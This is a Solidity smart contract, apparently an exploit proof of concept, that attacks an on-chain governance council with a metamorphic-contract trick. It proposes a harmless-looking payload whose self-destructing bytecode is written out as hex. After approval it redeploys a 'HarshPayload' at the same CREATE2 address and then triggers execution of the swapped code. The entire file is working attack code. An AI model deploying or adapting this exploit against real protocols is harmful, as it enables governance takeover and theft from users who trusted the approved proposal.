// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {Council} from "./Council.sol";
import {HarshPayload} from "./HarshPayload.sol";
import {Shifter} from "./Shifter.sol";

/// @title Proposes a mild payload that is gone at once, and puts a harsh one in its place
contract Forge {
    bytes public form;
    address public payload;

    function propose(Council council) external {
        // Does nothing, but ends for good when it is called without input.
        form = hex"3660065732ff5b00";
        payload = address(new Shifter{salt: 0}());
        council.propose(payload);
        (bool gone,) = payload.call("");
        require(gone, "still there");
    }

    function exchange() external {
        form = type(HarshPayload).runtimeCode;
        require(address(new Shifter{salt: 0}()) == payload, "elsewhere");
    }

    function carryOut(Council council) external {
        council.carryOut(address(this));
    }

    receive() external payable {}
}
